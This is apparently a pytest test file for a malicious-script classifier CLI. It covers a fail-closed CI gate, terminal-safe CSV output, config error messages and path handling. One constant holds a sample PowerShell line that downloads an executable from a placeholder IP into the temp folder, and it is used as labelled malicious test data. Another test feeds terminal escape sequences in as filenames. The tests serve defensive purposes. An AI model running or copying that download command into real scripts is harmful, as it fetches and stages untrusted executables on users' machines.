"""A CI gate that fails closed, outputs that do not lie, and messages that say what is wrong (issue 10, items 11,
13-17, 19)."""
from __future__ import annotations

import codecs
import csv
import io
import json
import math

import pytest
from typer.testing import CliRunner

from pipeline.cli import app
from pipeline.config import ConfigError, load_config, parse_override
from pipeline.predict import Prediction, check_threshold, gate_failures, render
from pipeline.inputs.readers import ReaderLimits, Reject, iter_inputs
from pipeline.run.runner import StageError, run_pipeline

from .conftest import TINY_CONFIG

PS = "$c = New-Object Net.WebClient\n$c.DownloadFile('http://198.51.100.7/a.exe', \"$env:TEMP\\a.exe\")\n"
SH = "#!/bin/sh\ntar czf backup.tgz /home/user/documents && echo done\n"


def _sgpipe(*args):
    return CliRunner().invoke(app, [str(a) for a in args])


@pytest.fixture(scope="module")
def classifier(tmp_path_factory):
    """An untrained tiny classifier: what it says does not matter here, only whether inputs are scored."""
    from pipeline.model.classifier import Classifier

    from .model_configs import load_tiny

    model, tokenizer, _ = load_tiny([PS, SH], 64, "full")
    return Classifier.save(model, tokenizer, tmp_path_factory.mktemp("clf") / "clf", base_model=None, max_length=64,
                           head_ratio=0.75)


# ----------------------------------------------------------------------------------------- 11: the CI gate
@pytest.mark.parametrize("payload", [PS.encode() + b"\x00", PS.encode() * 20_000,
                                     codecs.BOM_UTF32_LE + PS.encode("utf-32-le")], ids=["nul", "huge", "utf32"])
def test_the_gate_fails_on_a_script_it_could_not_score(tmp_path, classifier, payload):
    script = tmp_path / "payload.ps1"
    script.write_bytes(payload)
    args = ("predict", script, "--model", classifier, "--config", TINY_CONFIG, "--threshold", "1",  # nothing scores 1
            "--format", "jsonl", "--fail-on-malicious")
    closed = _sgpipe(*args)
    assert closed.exit_code == 1 and "could not be scored" in closed.output and "--allow-unscored" in closed.output
    allowed = _sgpipe(*args, "--allow-unscored")
    assert allowed.exit_code == 0, allowed.output


def test_the_gate_passes_scored_benign_inputs_and_accepts_run_dir(tmp_path, classifier):
    script = tmp_path / "ok.sh"
    script.write_text(SH)
    out = _sgpipe("predict", script, "--run-dir", classifier, "--config", TINY_CONFIG, "--threshold", "1",
                  "--format", "jsonl", "--fail-on-malicious")
    assert out.exit_code == 0, out.output
    assert json.loads(out.output.splitlines()[0])["score"] is not None


@pytest.mark.parametrize("bad", ["nan", "-5", "1.5", "inf"])
def test_a_threshold_that_is_not_a_probability_is_refused(tmp_path, bad):
    with pytest.raises(ValueError, match="not a probability"):
        check_threshold(float(bad))
    out = _sgpipe("predict", tmp_path, "--model", tmp_path / "none", "--threshold", bad)
    assert out.exit_code == 2 and "not a probability" in out.output


def test_gate_failures_name_both_causes():
    rows = [Prediction("a", "bash", 0.9, "malicious"), Prediction("b\x1b[2J", "", None, None, "binary: NUL")]
    reasons = gate_failures(rows, allow_unscored=False)
    assert reasons[0] == "1 input(s) judged malicious" and "b\\x1b[2J: binary: NUL" in reasons[1]
    assert gate_failures(rows[1:], allow_unscored=True) == []
    assert not math.isnan(0.5) and gate_failures([Prediction("c", "bash", 0.1, "benign")], False) == []


# ------------------------------------------------------------------------------- 13: CSV output is terminal-safe
def test_csv_output_neutralises_terminal_escapes():
    buffer = io.StringIO()
    render([Prediction("evil\x1b]0;pwned\x07\u202e.ps1", "bash", 0.5, "benign", None),
            Prediction("\tx", "", None, None, "err\x9b2J")], "csv", out=buffer)
    text = buffer.getvalue()
    assert not any(c in text for c in ("\x1b", "\x07", "\x9b", "\u202e"))
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["location"] == "evil\\x1b]0;pwned\\x07\\u202e.ps1"
    assert rows[1]["location"] == "'\tx" and rows[1]["error"] == "err\\x9b2J"  # formula guard kept


# ------------------------------------------------------------------------------ 14, 16: paths that are files
def test_report_dir_that_is_a_file_and_two_runs_with_one_name(tmp_path):
    from pipeline.stages.report import OWNER_FILE, report_folder

    (tmp_path / "file").write_text("x")
    with pytest.raises(StageError, match="is a file, not a folder"):
        report_folder(str(tmp_path / "file"), "run", tmp_path / "a")
    first = report_folder(str(tmp_path / "reports"), "run", tmp_path / "a")
    assert first == tmp_path / "reports" / "run"
    first.mkdir(parents=True)
    (first / OWNER_FILE).write_text(str((tmp_path / "a").resolve()) + "\n")
    assert report_folder(str(tmp_path / "reports"), "run", tmp_path / "a") == first  # its own: rewritten
    other = report_folder(str(tmp_path / "reports"), "run", tmp_path / "b")
    assert other != first and other.name.startswith("run-")


def test_evaluate_data_with_dot_dot_is_named_by_the_folder(tmp_path, monkeypatch):
    import pipeline.stages.evaluate as evaluate_stage

    seen = {}

    def fake(cfg, run_dir, paths, out, log=print):
        seen["out"] = out
        return {"model": {"n": 0, "sensitivity": 0, "specificity": 0, "roc_auc": 0}, "threshold": 0.5, "rejected": 0}

    monkeypatch.setattr(evaluate_stage, "evaluate_external", fake)
    (tmp_path / "d" / "sub").mkdir(parents=True)
    out = _sgpipe("evaluate", "--config", TINY_CONFIG, "--run-dir", tmp_path / "run", "--data",
                  tmp_path / "d" / "sub" / "..")
    assert out.exit_code == 0, out.output
    assert seen["out"] == tmp_path / "run" / "evaluations" / "d"


# ----------------------------------------------------------------------------------------- 15: messages
def test_dedup_that_drops_everything_points_at_a_file_that_exists(tmp_path):
    table = tmp_path / "t.jsonl"
    table.write_text("".join(json.dumps({"text": "echo conflicted", "label": label}) + "\n"
                             for label in ("benign", "malicious")))
    cfg = load_config(TINY_CONFIG, overrides=[f"data.ingest.inputs=[{table}]", "data.dedup.workers=1"])
    with pytest.raises(StageError, match="listed in") as failed:
        run_pipeline(cfg, tmp_path / "run", until="dedup", log=lambda m: None)
    listed = str(failed.value).split("listed in ")[1].split(". ")[0]
    assert json.loads(open(listed).readline())["resolution"] == "dropped"


def test_one_class_data_is_not_told_to_lower_split_sizes(tmp_path):
    table = tmp_path / "t.jsonl"
    table.write_text("".join(json.dumps({"text": f"echo {i} $((i*{i}))", "label": "benign"}) + "\n"
                             for i in range(30)))
    cfg = load_config(TINY_CONFIG, overrides=[f"data.ingest.inputs=[{table}]", "data.dedup.workers=1"])
    with pytest.raises(StageError, match="benign scripts only .* both malicious and benign") as failed:
        run_pipeline(cfg, tmp_path / "run", until="split", log=lambda m: None)
    assert "val_size" not in str(failed.value)


def test_config_messages_name_an_explainable_key_and_the_fix(tmp_path):
    config = tmp_path / "c.yaml"
    config.write_text("data:\n  ingest:\n    label_map: {1: malicious}\n")
    with pytest.raises(ConfigError) as failed:
        load_config(config)
    assert "`sgpipe config explain data.ingest.label_map`" in str(failed.value) and "[key]" not in str(failed.value)
    assert "quote the value" in str(failed.value)
    with pytest.raises(ConfigError, match=r"Write a list: .*--set key=\[a,b\]"):
        load_config(None, overrides=["data.ingest.inputs=foo.jsonl"])


def test_config_errors_echo_values_bounded(tmp_path):
    config = tmp_path / "c.yaml"
    config.write_text("run:\n  seed: [" + ", ".join(["1"] * 50_000) + "]\n")
    with pytest.raises(ConfigError) as failed:
        load_config(config)
    assert "run.seed" in str(failed.value) and len(str(failed.value)) < 1000


def test_utf32_and_lone_cr_get_their_own_messages(tmp_path):
    (tmp_path / "u.ps1").write_bytes(codecs.BOM_UTF32_LE + PS.encode("utf-32-le"))
    (tmp_path / "t.jsonl").write_bytes(b'{"text": "echo a", "label": "benign"}\r{"text": "echo b", "label": "benign"}\r')
    (tmp_path / "t.csv").write_bytes(b"text,label\recho a,benign\recho b,benign\r")
    rejects = {r.location.rsplit("/", 1)[1]: r.detail for r in iter_inputs(
        [tmp_path / "u.ps1", tmp_path / "t.jsonl", tmp_path / "t.csv"], ReaderLimits()) if isinstance(r, Reject)}
    assert "UTF-32" in rejects["u.ps1"] and "UTF-16" not in rejects["u.ps1"]
    assert "line feed" in rejects["t.jsonl:1"]
    assert "line feed" in rejects["t.csv:row 1"]


# -------------------------------------------------------------------------- 17, 19: --set text, --force
def test_set_keeps_text_fields_text():
    assert parse_override("training.eval_strategy=no") == ("training.eval_strategy", "no")
    assert parse_override("run.name=1.0") == ("run.name", "1.0")
    assert parse_override("training.learning_rate=1e-4") == ("training.learning_rate", 1e-4)
    assert parse_override("data.ingest.zip_password=null") == ("data.ingest.zip_password", None)
    cfg = load_config(None, overrides=["training.eval_strategy=no", "training.load_best_model_at_end=false",
                                         "training.early_stopping=false"])
    assert cfg.training.eval_strategy == "no"


def test_single_stage_commands_accept_force(tmp_path):
    table = tmp_path / "t.jsonl"
    table.write_text("".join(json.dumps({"text": t, "label": l}) + "\n" for t, l in ((PS, "malicious"), (SH, "benign"))))
    out = _sgpipe("ingest", "--force", "--config", TINY_CONFIG, "--run-dir", tmp_path / "run", "--input", table)
    assert out.exit_code == 0, out.output
    assert (tmp_path / "run" / "ingest" / "records.jsonl").read_text().count("\n") == 2


def test_run_dir_that_is_a_file_is_a_message_not_a_traceback(tmp_path):
    (tmp_path / "file").write_text("x")
    out = _sgpipe("all", "--until", "ingest", "--config", TINY_CONFIG, "--run-dir", tmp_path / "file")
    assert out.exit_code == 1 and "is a file, not a folder" in " ".join(out.output.split())  # rich wraps lines
    assert out.exception is None or isinstance(out.exception, SystemExit)
